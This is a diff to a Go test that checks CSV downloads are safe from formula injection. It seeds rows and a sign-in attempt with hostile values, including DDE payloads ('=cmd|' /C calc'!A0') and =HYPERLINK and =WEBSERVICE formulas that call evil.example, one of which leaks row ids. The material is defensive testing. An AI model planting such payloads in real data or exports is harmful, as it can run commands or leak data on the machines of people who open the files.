@@ -71,6 +71,7 @@ func TestEveryCSVDownloadIsSafe(t *testing.T) {
 		`UPDATE developments SET name = '=HYPERLINK("http://evil.example","Mill")', notes = '+1+1' WHERE id = (SELECT min(id) FROM developments)`,
 		`UPDATE agreements SET notes = '@SUM(A1:A9)' WHERE id IN (SELECT min(id) FROM agreements)`,
 		`UPDATE obligations SET description = '-2+3+cmd|'' /C calc''!A0', contact_name = '=1+1' WHERE id IN (SELECT id FROM obligations ORDER BY id LIMIT 3)`,
+		`INSERT INTO audit_events (actor_label, action, entity_type, entity_id, summary) VALUES ('=cmd|'' /C calc''!A0', 'x.y', 'thing', '1', '-1+1')`,
 		`UPDATE projects SET name = '=WEBSERVICE("http://evil.example/' || id || '")' WHERE id IN (SELECT id FROM projects ORDER BY id LIMIT 3)`,
 	} {
 		if _, err := app.DB.Pool.Exec(ctx, stmt); err != nil {
@@ -79,7 +80,7 @@ func TestEveryCSVDownloadIsSafe(t *testing.T) {
 	}
 	ts := newTestServer(t, app)
 	// An anonymous visitor types a formula as the sign-in address: it lands
-	// in the audit log, which the export holds.
+	// in the security log (not exported; administrators only).
 	res := ts.post(t, "/login", url.Values{"email": {"=cmd|' /C calc'!A0@evil.example"}, "password": {"not the password"}})
 	if res.status != http.StatusUnprocessableEntity {
 		t.Fatalf("failed sign-in: status %d", res.status)
@@ -125,7 +126,7 @@ func TestEveryCSVDownloadIsSafe(t *testing.T) {
 			checkCSV(t, path+"/"+f.Name, b)
 			csvFiles++
 			if f.Name == "audit.csv" && !bytes.Contains(b, []byte("'=cmd|")) {
-				t.Errorf("the export's audit log does not hold the typed sign-in address, made safe")
+				t.Errorf("the export's audit log does not hold the formula-like actor, made safe")
 			}
 		}
 	}
